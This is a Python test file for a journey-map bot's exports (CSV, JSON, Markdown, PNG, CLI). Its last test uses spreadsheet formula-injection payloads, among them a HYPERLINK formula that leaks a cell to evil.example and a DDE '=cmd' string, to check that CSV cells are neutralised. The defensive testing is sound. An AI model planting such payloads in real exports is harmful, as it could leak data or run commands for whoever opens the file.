"""Exports of a stored map: CSV rows, the JSON schema, readable Markdown, PNG, the CLI."""

import csv
import io
import json
from datetime import UTC, datetime

import matplotlib.image
import pytest

from bot.cli import main
from bot.core.model import STAGE_KEYS, NoteDraft
from bot.exports import CSV_COLUMNS, MAP_SCHEMA, build_export, slug
from bot.texts import t
from storage.chats import remember_chat, remember_user
from storage.maps import get_map, replace_stages
from storage.notes import add_note, list_notes
from storage.ownership import list_reviews

NOW = datetime(2025, 4, 2, 9, 30, tzinfo=UTC)


def draft(text, kind, stage, sentiment=0.0, channels=()):
    return NoteDraft(text, "pl", kind, stage, sentiment=sentiment, channels=channels)


@pytest.fixture
def journey(db):
    from storage.maps import create_map

    remember_chat(db, -100, "group", "Cukiernia", "pl")
    remember_user(db, 7, "Ola", "ola", "pl")
    journey = create_map(
        db, -100, "Tort na urodziny", "Zapracowany rodzic", 7, [(k, None) for k in STAGE_KEYS]
    )
    stage = {s.key: s.id for s in journey.stages}
    notes = [
        ("Instagram", "touchpoint", "awareness", 0.2, ("instagram",)),
        ('Płatność "kartą", nie działa; znowu', "pain_point", "purchase", -0.8, ("website",)),
        ("Dodać BLIK\nna stronie", "opportunity", "purchase", 0.5, ()),
        ("Wraca po *drugi* tort #2", "action", "retention", 0.6, ()),
    ]
    for text, kind, key, sentiment, channels in notes:
        add_note(db, -100, journey.id, stage[key], draft(text, kind, key, sentiment, channels), 7)
    db.execute(
        "INSERT INTO reviews (map_id, chat_id, started_by, started_at, finished_at)"
        " VALUES (?, -100, 7, '2025-03-01T10:00:00+00:00', '2025-03-01T10:20:00+00:00')",
        [journey.id],
    )
    return journey


def export(db, journey, fmt, lang="pl"):
    notes = list_notes(db, journey.chat_id, journey.id)
    reviews = list_reviews(db, journey.chat_id, journey.id)
    return build_export(lang, journey, notes, fmt, reviews=reviews, now=NOW)


def test_csv_has_one_row_per_note_in_map_order(db, journey):
    file = export(db, journey, "csv")
    assert file.filename == "tort-na-urodziny-2025-04-02.csv"
    assert file.data.startswith(b"\xef\xbb\xbf")  # spreadsheets then read it as UTF-8
    rows = list(csv.DictReader(io.StringIO(file.data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [(r["stage_key"], r["kind"]) for r in rows] == [
        ("awareness", "touchpoint"),
        ("purchase", "pain_point"),
        ("purchase", "opportunity"),
        ("retention", "action"),
    ]
    assert rows[1]["text"] == 'Płatność "kartą", nie działa; znowu'
    assert rows[2]["text"] == "Dodać BLIK\nna stronie"
    assert (rows[1]["author"], rows[1]["channels"], rows[1]["sentiment"]) == (
        "Ola",
        "website",
        "-0.8",
    )
    assert rows[0]["stage_position"] == "1" and rows[1]["stage_position"] == "4"


def test_json_is_the_whole_map_in_the_documented_schema(db, journey):
    document = json.loads(export(db, journey, "json").data)
    assert document["schema"] == MAP_SCHEMA
    assert document["exported_at"] == "2025-04-02T09:30:00+00:00"
    journey_json = document["map"]
    assert set(journey_json) == {
        "id",
        "name",
        "persona",
        "created_at",
        "stages",
        "notes",
        "reviews",
        "history",
    }
    assert [s["key"] for s in journey_json["stages"]] == list(STAGE_KEYS)
    assert set(journey_json["stages"][0]) == {"id", "position", "key", "name", "title"}
    assert journey_json["stages"][0]["title"] == t("pl", "stage.awareness")
    note = journey_json["notes"][1]
    assert set(note) == {
        "id",
        "number",
        "stage_id",
        "stage",
        "kind",
        "text",
        "lang",
        "sentiment",
        "channels",
        "author",
        "created_at",
        "status",
        "source",
        "owner",
        "due_on",
        "resolved_by",
        "resolved_at",
        "quote",
        "quoted_from",
        "said_at",
    }
    assert (note["quote"], note["quoted_from"], note["said_at"]) == (False, None, None)
    assert (note["kind"], note["channels"], note["author"]) == ("pain_point", ["website"], "Ola")
    assert (note["owner"], note["due_on"], note["resolved_by"], note["resolved_at"]) == (
        None, None, None, None)
    assert journey_json["reviews"][0]["finished_at"] == "2025-03-01T10:20:00+00:00"


def test_notes_of_a_removed_stage_are_exported_without_a_stage(db, journey):
    kept = [(s.id, s.key, s.name) for s in journey.stages if s.key != "purchase"]
    replace_stages(db, -100, journey.id, kept)
    journey = get_map(db, -100, journey.id)
    document = json.loads(export(db, journey, "json").data)
    orphans = [n for n in document["map"]["notes"] if n["stage_id"] is None]
    assert len(orphans) == 2 and all(n["stage"] is None for n in orphans)
    markdown = export(db, journey, "md", lang="en").data.decode()
    assert "\n## · Not sorted yet\n" in markdown  # no number: it is no sixth stage
    assert "## 6." not in markdown and "## 5. Advocacy" in markdown


def test_markdown_has_every_stage_and_escapes_user_text(db, journey):
    markdown = export(db, journey, "md", lang="en").data.decode()
    assert markdown.startswith("# Tort na urodziny\n")
    for number, name in enumerate(
        ["Awareness", "Consideration", "Decision", "Purchase", "Retention", "Advocacy"], start=1
    ):
        assert f"## {number}. {name}" in markdown
    assert "Wraca po \\*drugi\\* tort \\#2 — Ola" in markdown
    assert "Dodać BLIK na stronie" in markdown  # one list item per note
    purchase = markdown.split("## 4. Purchase")[1].split("## 5.")[0]
    assert purchase.index("Pain points") < purchase.index("Opportunities")


def test_png_export_is_the_map_picture(db, journey):
    file = export(db, journey, "png")
    assert file.filename.endswith(".png") and file.mime_type == "image/png"
    matplotlib.image.imread(io.BytesIO(file.data), format="png")


def test_file_names_are_ascii_slugs():
    assert slug("Замовлення торта!") == "zamovlennya-torta"
    assert slug("Поръчка — ÉTÉ 2025") == "porachka-ete-2025"
    assert slug("🎂🎂") == "journey-map"


def test_cli_writes_each_format(db, db_path, journey, tmp_path, capsys):
    assert main(["export", "--map", str(journey.id), "--format", "csv", "--db", str(db_path)]) == 0
    out = capsys.readouterr().out
    assert out.startswith("number,stage_position") and "Płatność" in out
    target = tmp_path / "map.json"
    args = ["export", "--map", str(journey.id), "--format", "json", "--db", str(db_path)]
    assert main([*args, "--output", str(target)]) == 0
    assert json.loads(target.read_text())["map"]["name"] == "Tort na urodziny"
    png = tmp_path / "map.png"
    args = ["export", "--map", str(journey.id), "--format", "png", "--db", str(db_path)]
    assert main([*args, "--output", str(png)]) == 0
    assert png.read_bytes().startswith(b"\x89PNG")
    assert main(["export", "--map", "999", "--format", "md", "--db", str(db_path)]) == 1
    assert main(["export", "--map", "1", "--format", "md", "--db", str(tmp_path / "no.db")]) == 2


INJECTIONS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3 cmd",
    "@SUM(1)",
    "\tcalc",
    "\r=1+1",
)


def test_csv_cells_never_start_a_formula_and_json_keeps_the_text(db):
    from storage.maps import create_map

    remember_chat(db, -200, "group", "Shop", "en")
    remember_user(db, 66, "=cmd|' /C calc'!A0", "evil", "en")
    journey = create_map(db, -200, "=1+1", None, 66, [(k, None) for k in STAGE_KEYS])
    stage = journey.stages[0]
    for text in INJECTIONS:
        add_note(db, -200, journey.id, stage.id, draft(text, "pain_point", stage.key, -0.5), 66)
    journey = get_map(db, -200, journey.id)

    written = export(db, journey, "csv", "en").data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(written)))
    texts = [row["text"] for row in rows]
    for cell in (cell for row in rows for cell in row.values()):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-0.5", cell  # numbers stay numbers
    assert sorted(texts) == sorted("'" + text for text in INJECTIONS)
    assert {row["author"] for row in rows} == {"'=cmd|' /C calc'!A0"}

    document = json.loads(export(db, journey, "json", "en").data)
    assert sorted(n["text"] for n in document["map"]["notes"]) == sorted(INJECTIONS)
    assert document["map"]["name"] == "=1+1"
